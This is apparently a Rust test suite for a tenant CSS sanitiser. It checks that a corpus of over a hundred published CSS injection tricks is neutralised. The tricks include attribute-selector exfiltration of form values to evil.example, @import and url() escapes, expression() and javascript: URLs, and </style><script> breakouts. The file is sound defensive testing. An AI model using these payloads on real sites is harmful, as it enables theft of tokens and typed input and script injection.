//! Published tricks against sanitisers of CSS, and whatever a generator can think of: what comes out is read again by
//! rules of its own, which know nothing of how it was made.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]
#![expect(
    clippy::too_many_lines,
    reason = "tests are tables of cases: longer with each case, and no harder to read"
)]

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use cssparser::{Parser, Token};
use proptest::prelude::*;
use tenantry_domain::customization::{CSS_LIMIT, Objection, SafeCss, sanitise_css};

fn hosts() -> BTreeSet<String> {
    BTreeSet::from(["cdn.acme.example".to_owned()])
}

fn sanitised(css: &str) -> SafeCss {
    sanitise_css(css, &hosts()).unwrap()
}

/// What must hold of everything that comes out.
fn check(css: &str) {
    let safe = sanitised(css);
    let out = &safe.css;
    assert!(
        out.bytes().all(|b| b == b'\n' || (b' '..=b'~').contains(&b)),
        "{css:?} became {out:?}"
    );
    for never in [
        "<",
        "\\",
        "`",
        "[",
        "]",
        "/*",
        "*/",
        "<!--",
        "-->",
        "&",
        "@import",
        "@font-face",
        "javascript",
        ";;",
    ] {
        assert!(!out.contains(never), "{css:?} became {out:?}");
    }
    tokens(&mut Parser::new(out), out);
    rules(out);
    let again = sanitised(out);
    assert_eq!((&again.css, again.removed), (out, Vec::new()), "of {css:?}");
}

/// Each token, in blocks and functions too, is of a harmless kind.
fn tokens(input: &mut Parser<'_>, whole: &str) {
    while let Ok(token) = input.next_including_whitespace_and_comments().cloned() {
        let nested = match &token {
            Token::AtKeyword(name) => {
                assert_eq!(name.as_ref(), "media", "{whole}");
                false
            }
            Token::Function(name) if name.as_ref() == "url" => {
                let inside = input.parse_nested_block(|input| {
                    Ok::<_, cssparser::ParseError<()>>(input.expect_string()?.to_string())
                });
                assert!(
                    inside.unwrap().starts_with("https://cdn.acme.example/"),
                    "{whole}"
                );
                false
            }
            Token::Function(name) => {
                let refused = [
                    "expression",
                    "image",
                    "image-set",
                    "-webkit-image-set",
                    "src",
                    "attr",
                    "element",
                    "cross-fade",
                    "paint",
                    "env",
                    "has",
                    "is",
                    "where",
                    "not",
                    "host",
                    "format",
                    "local",
                    "path",
                    "format",
                    "if",
                    "url-prefix",
                ];
                assert!(!refused.contains(&name.as_ref()), "{whole}");
                true
            }
            Token::ParenthesisBlock | Token::CurlyBracketBlock => true,
            Token::UnquotedUrl(_)
            | Token::BadUrl(_)
            | Token::BadString(_)
            | Token::Comment(_)
            | Token::CDC
            | Token::CDO
            | Token::SquareBracketBlock
            | Token::CloseParenthesis
            | Token::CloseSquareBracket
            | Token::CloseCurlyBracket
            | Token::IncludeMatch
            | Token::DashMatch
            | Token::PrefixMatch
            | Token::SuffixMatch
            | Token::SubstringMatch => {
                panic!("{token:?} in {whole}")
            }
            Token::QuotedString(text) => {
                assert!(
                    text.chars()
                        .all(|c| c.is_ascii_alphanumeric() || " -_".contains(c)),
                    "{whole}"
                );
                false
            }
            _ => false,
        };
        if nested {
            let inside = input.parse_nested_block(|input| {
                tokens(input, whole);
                Ok::<_, cssparser::ParseError<()>>(())
            });
            inside.unwrap();
        }
    }
}

/// Braces match, each rule is within the scope, and each declaration is one that may be there.
fn rules(out: &str) {
    let mut depth = 0;
    let mut start = 0;
    let mut of_scope = false;
    for (at, c) in out.char_indices() {
        match c {
            '{' => {
                let prelude = out[start..at].trim();
                if !prelude.starts_with("@media ") {
                    prelude.split(", ").for_each(|selector| scoped(selector, out));
                    of_scope = prelude.split(", ").any(matches_the_scope);
                }
                depth += 1;
                start = at + 1;
            }
            '}' => {
                out[start..at]
                    .split(';')
                    .map(str::trim)
                    .filter(|text| !text.is_empty())
                    .for_each(|text| {
                        declaration(text);
                        assert!(!of_scope || leaves_the_box(text), "{text} in {out}");
                    });
                depth -= 1;
                start = at + 1;
            }
            _ => {}
        }
        assert!((0..=2).contains(&depth), "{out}");
    }
    assert_eq!((depth, out[start..].trim()), (0, ""), "{out}");
}

/// Whether the last part of a selector has the class of the scope.
fn matches_the_scope(selector: &str) -> bool {
    let subject = selector.split([' ', '>', '+', '~']).next_back().unwrap();
    let names = subject.split([':', '#']).next().unwrap();
    names.split('.').skip(1).any(|class| class == "tenant-brand") || subject.contains(".tenant-brand")
}

/// Whether a declaration is one that no box depends on.
fn leaves_the_box(text: &str) -> bool {
    const HARMLESS: [&str; 17] = [
        "accent-color",
        "background",
        "caret-color",
        "color",
        "cursor",
        "fill",
        "font-",
        "hyphens",
        "letter-spacing",
        "line-height",
        "list-style",
        "overflow-wrap",
        "stroke:",
        "tab-size",
        "text-",
        "word-break",
        "color-scheme",
    ];
    HARMLESS.iter().any(|property| text.starts_with(property))
        && !text.starts_with("text-indent")
        && !text.starts_with("text-underline-offset")
}

fn scoped(selector: &str, out: &str) {
    let mut words = selector.split(' ');
    let first = words.next().unwrap();
    let classes: Vec<&str> = first
        .split([':', '#'])
        .next()
        .unwrap()
        .split('.')
        .skip(1)
        .collect();
    let in_scope = classes.contains(&"tenant-brand") || first.contains(".tenant-brand");
    let next = words.next();
    assert!(
        in_scope && !matches!(next, Some("+" | "~")),
        "{selector} in {out}"
    );
    for never in [
        "html", "body", "head", ":root", ":host", "script", "input[", "style",
    ] {
        let escapes = selector
            .split([' ', '>', '+', '~'])
            .any(|part| part == never || part.starts_with(&format!("{never}.")));
        assert!(!escapes, "{selector} in {out}");
    }
}

fn declaration(text: &str) {
    let (property, value) = text.split_once(": ").unwrap_or_else(|| panic!("{text}"));
    let forbidden = [
        "position",
        "z-index",
        "content",
        "behavior",
        "-moz-binding",
        "filter",
        "backdrop-filter",
        "transform",
        "animation",
        "animation-name",
        "mask",
        "clip-path",
        "src",
        "cursor-image",
        "all",
        "offset",
        "inset",
        "top",
        "left",
        "quotes",
        "counter-increment",
        "view-transition-name",
        "pointer-events",
        "list-style-image",
        "border-image",
    ];
    assert!(
        !forbidden.contains(&property) && !property.starts_with('-'),
        "{text}"
    );
    assert!(
        property.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'),
        "{text}"
    );
    assert!(!value.trim().is_empty(), "{text}");
    if property.starts_with("margin") {
        assert!(!value.contains("-1") && !value.contains("- "), "{text}");
    }
}

/// Name and trick. None may leave a trace of `evil`, which stands for the attacker's server and text.
const CORPUS: &[(&str, &str)] = &[
    // Reading what people type, or what a page holds, by attribute selectors (Heiderich et al. 2012, d0nut, PortSwigger).
    (
        "attribute prefix",
        "input[name=csrf][value^=a]{background:url(https://evil.example/a)}",
    ),
    (
        "attribute substring",
        "input[value*='secret']{background:url(//evil.example/s)}",
    ),
    (
        "attribute suffix",
        "input[value$=z]~*{background-image:url(https://evil.example/z)}",
    ),
    ("attribute of a link", "a[href^='https://evil']{color:red}"),
    (
        "has with an attribute",
        "form:has(input[value^=a]){background:url(https://evil.example/h)}",
    ),
    ("is with an attribute", ":is(input[value^=a]){color:evil}"),
    ("where", ":where(html){background:url(https://evil.example)}"),
    ("not", ".x:not(.evil){color:red}"),
    (
        "universal sibling after a hidden field",
        "input[type=hidden][value^=x]+*{background:url(https://evil.example/x)}",
    ),
    (
        "container style query",
        "@container style(--evil:1){a{background:url(https://evil.example)}}",
    ),
    ("attr in a url", "a{background:image-set(attr(data-evil))}"),
    (
        "inline if",
        "div{--val:attr(data-uid);background:if(style(--val:\"1\"):url(https://evil.example/1))}",
    ),
    // Reading text by fonts.
    (
        "unicode-range",
        "@font-face{font-family:x;src:url(https://evil.example/A);unicode-range:U+0041}a{font-family:x}",
    ),
    (
        "font-face with local",
        "@font-face{font-family:evil;src:local('Arial')}",
    ),
    (
        "ligatures and a scroll bar",
        "body::-webkit-scrollbar{background:url(https://evil.example)}",
    ),
    (
        "scroll bar in scope",
        ".x::-webkit-scrollbar:horizontal{background:url(https://evil.example)}",
    ),
    (
        "first line",
        "p::first-line{font-family:'evil', url(https://evil.example)}",
    ),
    ("font feature values", "@font-feature-values Evil{@styleset{a:1}}"),
    ("font palette", "@font-palette-values --evil{font-family:x}"),
    // Loading more.
    ("import", "@import url(https://evil.example/a.css);"),
    ("import of a string", "@import 'https://evil.example/a.css';"),
    ("import in another case", "@ImPoRt \"https://evil.example\";"),
    ("escaped import", "@\\69mport url(https://evil.example);"),
    (
        "import in layers",
        "@import url(https://evil.example) layer(x) supports(display:grid);",
    ),
    (
        "import after a charset",
        "@charset \"utf-8\";@import url(https://evil.example);",
    ),
    (
        "import after a comment in the keyword",
        "@im/**/port url(https://evil.example);",
    ),
    ("import in a rule", "a{@import url(https://evil.example);}"),
    (
        "recursive import",
        "@import url(https://evil.example/?len=1);@import url(https://evil.example/?len=2);",
    ),
    ("charset of seven bits", "@charset \"utf-7\";+AD4-evil+ADw-{}"),
    (
        "namespace",
        "@namespace url(https://evil.example);@namespace e url(https://evil.example/e);e|a{color:red}",
    ),
    (
        "document rule",
        "@document url-prefix(https://evil.example){a{color:red}}@-moz-document url-prefix(''){a{color:red}}",
    ),
    (
        "property",
        "@property --evil{syntax:'<url>';inherits:true;initial-value:url(https://evil.example)}",
    ),
    ("layer", "@layer evil{a{color:red}}@layer evil;"),
    (
        "supports",
        "@supports(display:grid){a{background:url(https://evil.example)}}",
    ),
    (
        "keyframes",
        "@keyframes evil{from{background:url(https://evil.example)}}a{animation:evil 1s}",
    ),
    (
        "page",
        "@page evil{margin:1px;background:url(https://evil.example)}",
    ),
    (
        "counter style",
        "@counter-style evil{system:cyclic;symbols:url(https://evil.example)}",
    ),
    (
        "scope rule",
        "@scope(html){:scope{background:url(https://evil.example)}}",
    ),
    (
        "starting style",
        "@starting-style{a{background:url(https://evil.example)}}",
    ),
    (
        "view transition",
        "@view-transition{navigation:auto}.evil{view-transition-name:evil}",
    ),
    ("viewport", "@viewport{width:1px}@-ms-viewport{evil:1}"),
    // Fetching, in other words.
    ("plain url", "a{background:url(http://evil.example)}"),
    ("relative url", "a{background:url(/evil)}"),
    ("protocol-relative", "a{background:url(//evil.example)}"),
    ("quoted", "a{background:url('https://evil.example')}"),
    ("escaped url", "a{background:\\75rl(https://evil.example)}"),
    (
        "escaped in six digits",
        "a{background:\\000075\\000072\\00006c(https://evil.example)}",
    ),
    ("comment in url", "a{background:ur/**/l(https://evil.example)}"),
    (
        "comment before the bracket",
        "a{background:url/**/(https://evil.example)}",
    ),
    ("upper case", "a{background:URL(https://EVIL.example)}"),
    ("full-width letters", "a{background:ｕｒｌ(https://evil.example)}"),
    ("url that does not end", "a{background:url(https://evil.example"),
    (
        "url with a quote in it",
        "a{background:url(https://cdn.acme.example/\");evil:1}",
    ),
    (
        "two urls",
        "a{background:url(https://cdn.acme.example/a),url(https://evil.example/b)}",
    ),
    (
        "user name before an allowed host",
        "a{background:url(https://cdn.acme.example@evil.example/)}",
    ),
    (
        "allowed host in the path",
        "a{background:url(https://evil.example/cdn.acme.example)}",
    ),
    (
        "subdomain of the attacker",
        "a{background:url(https://cdn.acme.example.evil.example/)}",
    ),
    (
        "allowed host after a backslash",
        "a{background:url('https://evil.example\\\\@cdn.acme.example/')}",
    ),
    (
        "tab in the scheme",
        "a{background:url('ht\\9tps://evil.example')}",
    ),
    (
        "another port",
        "a{background:url(https://cdn.acme.example:8443/evil)}",
    ),
    ("image-set", "a{background:image-set('https://evil.example' 1x)}"),
    (
        "prefixed image-set",
        "a{background:-webkit-image-set(url(https://evil.example) 1x)}",
    ),
    ("src function", "a{background:src('https://evil.example')}"),
    ("image function", "a{background:image('https://evil.example')}"),
    (
        "cross-fade",
        "a{background:cross-fade(url(https://evil.example),red)}",
    ),
    ("element function", "a{background:-moz-element(#evil)}"),
    ("paint worklet", "a{background:paint(evil)}"),
    ("cursor", "a{cursor:url(https://evil.example),auto}"),
    (
        "list-style",
        "li{list-style:url(https://evil.example)}li{list-style-image:url(https://evil.example)}",
    ),
    ("border-image", "a{border-image:url(https://evil.example) 1}"),
    (
        "content",
        "a::before{content:url(https://evil.example)}a::after{content:'evil'}",
    ),
    (
        "mask",
        "a{mask:url(https://evil.example#m);-webkit-mask-image:url(https://evil.example)}",
    ),
    (
        "filter",
        "a{filter:url(https://evil.example#f);backdrop-filter:url(https://evil.example)}",
    ),
    ("clip-path", "a{clip-path:url(https://evil.example#c)}"),
    ("shape-outside", "a{shape-outside:url(https://evil.example)}"),
    ("offset-path", "a{offset-path:url(https://evil.example)}"),
    (
        "custom property with a url",
        ":root{--evil:url(https://evil.example)}a{background:var(--evil)}",
    ),
    ("custom property in scope", "a{--evil:url(https://evil.example)}"),
    (
        "fallback of a variable",
        "a{background:var(--brand-primary,url(https://evil.example))}",
    ),
    ("var of another's variable", "a{color:var(--evil)}"),
    ("env", "a{width:env(evil)}"),
    (
        "svg as data",
        "a{background:url(\"data:image/svg+xml,<svg onload=alert('evil')>\")}",
    ),
    (
        "base64 data",
        "a{background:url(data:text/html;base64,ZXZpbA==)}a{evil:1}",
    ),
    (
        "prefetching",
        "a{background:url(https://evil.example/%2e%2e/);dns:evil}",
    ),
    // Running.
    ("expression", "a{width:expression(alert('evil'))}"),
    (
        "expression with a comment",
        "a{width:expr/**/ession(alert('evil'))}",
    ),
    ("escaped expression", "a{width:e\\78 pression(evil)}"),
    ("expression in full width", "a{width:ｅｘｐｒｅｓｓｉｏｎ(evil)}"),
    ("behavior", "a{behavior:url(#evil)}"),
    ("escaped behavior", "a{b\\65havior:url(#evil)}"),
    ("moz-binding", "a{-moz-binding:url(https://evil.example/x.xml#x)}"),
    ("javascript url", "a{background:url(javascript:alert('evil'))}"),
    (
        "javascript with an entity",
        "a{background:url('java&#115;cript:evil')}",
    ),
    ("vbscript", "a{background:url(vbscript:evil)}"),
    (
        "dxfilter",
        "a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example')}",
    ),
    ("star hack", "a{*behavior:url(#evil);_behavior:url(#evil)}"),
    ("o-link", "a{-o-link:'javascript:evil';-o-link-source:current}"),
    // Leaving the sheet.
    (
        "end of the style element",
        "a{color:red}</style><script>alert('evil')</script>",
    ),
    (
        "end of the element in a string",
        "a{font-family:'</style><img src=x onerror=evil>'}",
    ),
    (
        "end of the element in a comment",
        "/*</style><script>evil</script>*/a{color:red}",
    ),
    (
        "end of the element in a selector",
        ".x\\3c/style\\3e\\3cscript\\3e evil{color:red}",
    ),
    (
        "end of the element in a url",
        "a{background:url(\"https://cdn.acme.example/</style><script>alert(1)\")}",
    ),
    ("html comment", "<!-- a{evil:red} -->"),
    ("null byte in a name", "a{beh\0avior:url(#evil)}"),
    (
        "null byte before the url",
        "a{background:\0url(https://evil.example)}",
    ),
    ("byte order mark and controls", "\u{feff}a{\u{1}evil:\u{7f}red}"),
    ("line separators", "a{font-family:'\u{2028}evil\u{2029}'}"),
    (
        "right-to-left override",
        "a{font-family:'\u{202e}live'}.\u{202e}evil{color:red}",
    ),
    // Leaving the scope.
    ("root", ":root{color:evil;background:url(https://evil.example)}"),
    ("html", "html{display:none}html .evil{color:red}"),
    ("body", "BODY{display:none}body>.evil{color:red}"),
    ("escaped body", "b\\6f dy{display:none}b\\6f dy .evil{color:red}"),
    ("host", ":host(.evil){color:red}:host-context(.evil){color:red}"),
    ("slotted", "::slotted(.evil){color:red}::part(evil){color:red}"),
    (
        "nesting selector",
        "&.evil{color:red}.x{&.evil{color:red}& &{color:red}}",
    ),
    ("nested rule", ".x{.evil{color:red}html &{display:none}}"),
    (
        "nested at-rule",
        ".x{@media all{.evil{color:red}}@import 'https://evil.example';}",
    ),
    ("media in media", "@media screen{@media print{.evil{color:red}}}"),
    ("media with a function", "@media (width:calc(evil)){a{color:red}}"),
    ("media of anything", "@media evil, (--evil){.evil{color:red}}"),
    (
        "too many closing braces",
        "}}} html{display:none} .x{color:red}}} body .evil{color:red}",
    ),
    ("braces in a value", ".x{color:}body .evil{display:none}}"),
    ("brackets that cross", ".x[{]}html .evil{color:red}"),
    (
        "bad string swallows a brace",
        ".x{font-family:'}\n html .evil{color:red}",
    ),
    ("unclosed comment", ".x{color:red}/* body{display:evil}"),
    ("unclosed block", "body{display:none;.evil{color:red"),
    ("unclosed function", ".x{color:rgb(1,2;}body .evil{display:none}"),
    (
        "sibling of the scope",
        ".tenant-brand+.login:evil{color:red}.tenant-brand~html{color:red}",
    ),
    ("namespaced element", "*|body{display:none}svg|a .evil{color:red}"),
    ("column combinator", "a||b .evil{color:red}"),
    ("deep combinator", "a >>> .evil, a /deep/ .evil{color:red}"),
    (
        "combinator first",
        "> html .evil{color:red}+ .evil:root{color:red}",
    ),
    // Covering the page.
    (
        "fixed overlay",
        "a{position:fixed;inset:0;z-index:9999;content:evil}",
    ),
    ("sticky", "a{position:sticky;top:0;evil:1}"),
    ("transform", "a{transform:translate(-100vw);evil:1}"),
    (
        "negative margin",
        "a{margin:-1000px;margin-left:calc(0px - 1000px);evil:1}",
    ),
    ("all", "a{all:unset;evil:1}"),
    ("pointer-events", "a{pointer-events:none;evil:1}"),
    (
        "anchor positioning",
        "a{position-anchor:--evil;top:anchor(bottom)}",
    ),
    (
        "counter as text",
        "a{counter-reset:evil;counter-increment:evil}a::before{content:counter(evil)}",
    ),
    (
        "aliases of a vendor",
        "a{-webkit-transform:scale(9);-webkit-text-stroke:99px evil;-webkit-appearance:evil;-moz-appearance:evil}",
    ),
    (
        "transforms of their own",
        "a{translate:9px;rotate:9deg;scale:9;zoom:9;offset-distance:9px;evil:1}",
    ),
    (
        "painted around the border",
        "a{border-image-source:linear-gradient(evil);border-image-outset:9999px;overflow-clip-margin:99px evil}",
    ),
    (
        "containment taken back",
        "a{contain:none;content-visibility:evil}",
    ),
    (
        "place to fall back to",
        "@position-try --evil{inset:0}a{position-try:--evil}",
    ),
    (
        "scope rule over the scope",
        "@scope(.tenant-brand){:scope{color:evil}}",
    ),
    ("layer over the scope", "@layer x{.tenant-brand{color:evil}}"),
    (
        "container over the scope",
        "@container (min-width:1px){.tenant-brand{color:evil}}",
    ),
    (
        "parent of the scope",
        ":has(.tenant-brand){color:evil}*:has(> .tenant-brand){color:evil}",
    ),
    ("unclosed string", ".x{font-family:\"</evil"),
    ("unclosed comment in a value", ".x{color:/* evil"),
    // Odd values.
    ("quirks hash", "a{color:#zzzzzz;background:#evil}"),
    (
        "huge number",
        "a{width:99999999999999999999999px;height:1e999px;evil:1}",
    ),
    ("importance twice", "a{color:red!important!important;evil:1}"),
    ("semicolons", "a{;;;evil;;;:red;;}"),
    ("property without a value", "a{color:;evil}"),
    (
        "custom property that looks like a rule",
        "--evil:hover{color:red}a{--x:{evil:1}}",
    ),
    ("unit with an escape", "a{width:1\\70 x;height:1e\\76il}"),
    ("question-mark range", "a{unicode-range:U+26????;evil:1}"),
];

#[test]
fn no_trick_of_the_corpus_survives() {
    assert!(CORPUS.len() >= 60);
    let mut survivors = Vec::new();
    for (name, css) in CORPUS {
        check(css);
        let safe = sanitised(css);
        if safe.css.to_ascii_lowercase().contains("evil") {
            survivors.push((name, safe.css));
        }
        check(&format!(".before {{ color: red }} {css}"));
        check(&format!("{css} .after {{ color: red }}"));
        check(&format!("@media screen {{ {css} }}"));
        check(&format!(".inside {{ {css} }}"));
    }
    assert!(survivors.is_empty(), "{survivors:#?}");
}

#[test]
fn what_is_harmless_stays_as_it_is_meant() {
    for (css, expected) in [
        ("a{color:red}", ".tenant-brand a {\n  color: red;\n}\n"),
        (
            "A.b#c > p ~ q + *:Hover{COLOR:#AbC}",
            ".tenant-brand a.b#c > p ~ q + *:hover {\n  color: #AbC;\n}\n",
        ),
        (
            ".tenant-brand .x,.y{margin:0 auto!important}",
            ".tenant-brand .x, .tenant-brand .y {\n  margin: 0 auto !important;\n}\n",
        ),
        (
            ".tenant-brand+.x{color:red}",
            ".tenant-brand .tenant-brand + .x {\n  color: red;\n}\n",
        ),
        (
            "li:nth-child(odd)::marker{color:red}",
            ".tenant-brand li:nth-child(2n+1)::marker {\n  color: red;\n}\n",
        ),
        (
            "a{background:url(https://CDN.acme.example/a.png)}",
            ".tenant-brand a {\n  background: url(\"https://cdn.acme.example/a.png\");\n}\n",
        ),
        (
            "a{width:calc(100% - (2 * 1.5rem))}",
            ".tenant-brand a {\n  width: calc(100% - (2 * 1.5rem));\n}\n",
        ),
        (
            "a{color:var(--brand-primary);font:bold 1em/1.5 'Open Sans', serif}",
            ".tenant-brand a {\n  color: var(--brand-primary);\n  font: bold 1em / 1.5 \"Open Sans\", serif;\n}\n",
        ),
        (
            "@media (MIN-width:40em) and (prefers-color-scheme: dark){a{color:red}}",
            "@media (min-width: 40em) and (prefers-color-scheme: dark) {\n.tenant-brand a {\n  color: red;\n}\n}\n",
        ),
        (
            "b\\6f x{color:\\72 ed}",
            ".tenant-brand box {\n  color: red;\n}\n",
        ),
        ("/* nothing */ a{} @media print{}", ""),
    ] {
        let safe = sanitised(css);
        assert_eq!((safe.css.as_str(), safe.removed), (expected, vec![]), "{css}");
        check(css);
    }
}

/// What an element paints around its box is not clipped by its own `contain: paint`.
#[test]
fn nothing_is_painted_far_outside_of_a_box() {
    for far in [
        "box-shadow:0 0 0 9999px red",
        "box-shadow:0 0 0 33px",
        "box-shadow:9999px 0 red",
        "box-shadow:-9999px 0 red",
        "box-shadow:0 0 1px red, 0 0 0 100vmax red",
        "box-shadow:0 0 0 calc(1px * 9999)",
        "box-shadow:inset 0 0 100vw red",
        "text-shadow:0 4000px red",
        "outline:9999px solid red",
        "outline:max(1px, 99rem) solid",
        "outline-width:50vw",
        "outline-offset:9999px",
        "outline-offset:-9999px",
        "outline-width:3em",
        "outline-width:1e9px",
    ] {
        let safe = sanitised(&format!(".x{{{far}}}"));
        assert_eq!((safe.css.as_str(), safe.removed.len()), ("", 1), "{far}");
        check(&format!(".tenant-brand{{{far}}}"));
    }
    for near in [
        "box-shadow: 0 2px 8px rgba(0,0,0,0.2), 0 -1px 0 #fff",
        "box-shadow: 0 1rem 2rem hsl(120deg 50% 50% / 50%)",
        "text-shadow: 1px 1px 0.1em red",
        "outline: 2px solid var(--brand-accent)",
        "outline-offset: -2px",
    ] {
        let safe = sanitised(&format!(".x {{{near}}}"));
        assert_eq!(safe.removed, [], "{near}");
    }
}

/// The box of the element of the class is the page's: a tenant who sizes or moves it covers what is around it.
#[test]
fn the_scope_element_keeps_the_box_of_the_page() {
    let boxes = "width:9999px;height:100vh;min-width:100vw;min-height:100vh;max-width:none;max-height:0;aspect-ratio:1/99;\
        padding:0 9999px;padding-top:99em;padding-block:9px;padding-inline:9px;margin:9999px;margin-left:auto;margin-block:9px;\
        margin-inline:9px;border:9999px solid;border-top:9px solid;border-width:99px;border-left-width:9px;border-style:solid;\
        border-inline:9px solid;border-radius:50%;border-collapse:collapse;border-spacing:99px;box-sizing:content-box;\
        box-shadow:0 0 0 32px red;outline:32px solid;outline-offset:32px;outline-width:1em;float:left;clear:both;display:none;\
        display:contents;display:inline;display:inline-block;display:grid;display:table-row;display:ruby !important;\
        columns:9;column-count:99;column-width:1px;column-gap:99px;column-rule:99px solid;overflow:visible;flex:99;\
        flex-basis:9999px;flex-grow:99;flex-shrink:0;flex-direction:column;flex-wrap:wrap;order:-1;gap:99px;row-gap:9px;\
        grid-column:1/99;grid-row:1/99;grid-template-columns:9999px;grid-auto-rows:99px;align-self:stretch;justify-self:end;\
        align-content:end;justify-content:end;vertical-align:9999px;text-indent:9999px;word-spacing:9999px;\
        text-underline-offset:9999px;text-decoration-thickness:9999px;text-overflow:clip;stroke-width:9999px;object-fit:cover;\
        opacity:0;visibility:hidden;transition:all 9s;font:9999px serif;font-size:9999px;font-size:33px;font-size:9em;\
        font-size:9rem;font-size:100vw;font-size:201%;font-size:calc(1px*9999);font-size:max(1px,99px);line-height:9;\
        line-height:99px;line-height:99lh;line-height:9999%;letter-spacing:9999px;letter-spacing:-33px;tab-size:99;\
        text-shadow:0 0 33px;text-shadow:0 9em red;position:fixed;inset:0;top:0;z-index:9;transform:scale(9);translate:9px;\
        scale:9;rotate:9deg;zoom:9;contain:none;clip-path:none;mask:none;filter:blur(9px);content:counter(x);\
        overflow-clip-margin:99px;border-image-outset:99px;-webkit-transform:scale(9);-webkit-box-shadow:0 0 0 99px;\
        -webkit-text-stroke:99px;-webkit-line-clamp:1;-webkit-mask:none;background-attachment:fixed;anchor-name:--x;\
        position-area:top;view-transition-name:x;interpolate-size:allow-keywords;field-sizing:content;\
        content-visibility:visible;will-change:transform;perspective:1px;writing-mode:vertical-rl;direction:rtl;all:unset";
    for own in boxes.split(';').map(str::trim) {
        for selector in [
            ".tenant-brand",
            ".tenant-brand.x",
            ".tenant\\-brand",
            "main.tenant-brand:hover",
            "#x.tenant-brand::first-line",
            ".x, .tenant-brand",
            ".a > .tenant-brand",
        ] {
            let css = format!("{selector}{{{own}}}");
            let safe = sanitised(&css);
            assert_eq!((safe.css.as_str(), safe.removed.len()), ("", 1), "{css}");
            check(&format!("@media print{{{css}}}"));
        }
    }
    let inside = sanitised(".tenant-brand .x{width:100px;display:inline;padding:1rem;outline-width:1em}");
    assert_eq!(inside.removed, []);
    let removed = sanitised(".tenant-brand{padding:1rem}").removed;
    assert_eq!(removed[0].reason, Objection::ScopeProperty);
}

#[test]
fn the_scope_element_takes_colors_backgrounds_and_text() {
    for own in [
        "color: var(--brand-on-primary)",
        "background: linear-gradient(90deg, #fff, red 50%) no-repeat",
        "background-image: url(https://cdn.acme.example/a.png)",
        "background-size: cover",
        "font-family: \"Open Sans\", serif",
        "font-size: 1.25rem",
        "font-size: 110%",
        "font-weight: 600",
        "line-height: 1.5",
        "letter-spacing: 0.5px",
        "text-align: center",
        "text-shadow: 1px 1px 2px #000",
        "text-decoration: underline",
        "color-scheme: dark",
        "cursor: default",
    ] {
        let css = format!(".tenant-brand {{{own}}}");
        assert_eq!(sanitised(&css).removed, [], "{own}");
        check(&css);
    }
}

#[test]
fn what_was_removed_is_reported_with_its_place_and_reason() {
    let css = "@import 'x';\na, html { color: red; position: fixed;\n  background: url(http://a.b) }\n.x { width: evil(1) }";
    let safe = sanitised(css);
    let removed: Vec<_> = safe
        .removed
        .iter()
        .map(|r| (r.line, r.column, r.text.as_str(), r.reason))
        .collect();
    assert_eq!(
        removed,
        [
            (1, 1, "@import 'x'", Objection::AtRule),
            (2, 4, "html", Objection::Selector),
            (2, 23, "position: fixed;", Objection::Property),
            (3, 3, "background: url(http://a.b)", Objection::Url),
            (4, 6, "width: evil(1)", Objection::Function),
        ]
    );
    let many = sanitised(&"a{x:y}".repeat(500));
    assert_eq!((many.removed.len(), many.more_removed), (100, 400));
}

#[test]
fn neither_length_nor_depth_costs_time() {
    assert!(
        sanitise_css(&"a".repeat(1 << 20), &hosts()).is_err(),
        "1 MiB is not looked at"
    );
    let full = |piece: &str| piece.repeat(CSS_LIMIT / piece.len());
    let heavy = [
        "(",
        "[",
        "{",
        "a{",
        "a{b:",
        "a{b:c{",
        "@media all{",
        "@media (",
        "a{width:calc(",
        "a{width:(",
        ":not(",
        ":is(a,",
        "a,",
        "a ",
        "a>",
        ".a",
        "a{color:red}",
        "a{color:red;",
        "a{x:y}",
        "/*",
        "/**/",
        "'",
        "\"\n",
        "\\",
        "\\a ",
        "url(",
        "a{background:url(",
        "-",
        "--a:",
        "a{--a:{",
        "<!--",
        "@a;",
        "@a{",
        "}",
        ";",
        ",",
        "!",
        "a{color:red!important;",
        "\n",
        "\0",
        "é",
        "1e",
        "+1",
        "a{&",
        "a:nth-child(",
        "a{color:rgb(1,2,3)}",
        "U+26?",
        "a{grid-template-columns:repeat(1,repeat(1,",
    ];
    for piece in heavy {
        for css in [
            full(piece),
            format!("a{{{}", full(piece)),
            format!("a{{color:{}", full(piece)),
        ] {
            let css: String = css.chars().take(CSS_LIMIT / 2).collect();
            let began = Instant::now();
            check(&css);
            assert!(
                began.elapsed() < Duration::from_secs(60),
                "{piece:?} took {:?}",
                began.elapsed()
            );
        }
    }
    let long = format!(".{}{{color:red}}", "x".repeat(60_000));
    assert_eq!(sanitised(&long).removed[0].reason, Objection::Selector);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn nothing_made_of_the_pieces_of_css_gets_out(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
        check(&pieces.concat());
    }

    #[test]
    fn nothing_of_any_characters_gets_out(css in "\\PC{0,60}") {
        check(&css);
        check(&format!("a{{{css}}}"));
        check(&format!("a{{color:{css};}}"));
        check(&format!("{css}{{color:red}}"));
    }
}

const PIECES: &[&str] = &[
    "a",
    "b",
    "html",
    "body",
    ":root",
    ".x",
    "#y",
    "*",
    ".tenant-brand",
    ">",
    "+",
    "~",
    " ",
    " ",
    ",",
    ",",
    ":hover",
    "::marker",
    ":nth-child(",
    "2n+1",
    "[a=b]",
    "&",
    "{",
    "{",
    "{",
    "}",
    "}",
    "(",
    ")",
    "[",
    "]",
    ";",
    ";",
    ":",
    ":",
    "color",
    "color:",
    "red",
    "margin",
    "margin:-",
    "width:9px",
    "padding:9em",
    "display:inline",
    "font-size:",
    "line-height:",
    "9999px",
    "background:",
    "background-image",
    "position:fixed",
    "--x",
    "var(",
    "--brand-primary",
    "url(",
    "url('",
    "\"",
    "'",
    "https://evil.example/",
    "https://cdn.acme.example/a",
    "//",
    "@media ",
    "@import ",
    "screen",
    "(min-width:1px)",
    "@",
    "!important",
    "!",
    "/*",
    "*/",
    "<!--",
    "-->",
    "</style>",
    "<",
    "\\",
    "\\75",
    "\\3c ",
    "\\\n",
    "\n",
    "\0",
    "é",
    "calc(",
    "rgb(",
    "1",
    "-1",
    "1px",
    "1e3",
    ".5",
    "50%",
    "+",
    "-",
    "*",
    "/",
    "#fff",
    "expression(",
    "font-family:",
    "'Arial'",
    "serif",
    "U+0-7F",
    "width:",
    "1\\70 x",
    "|",
    "||",
    "$=",
    "\u{2028}",
];
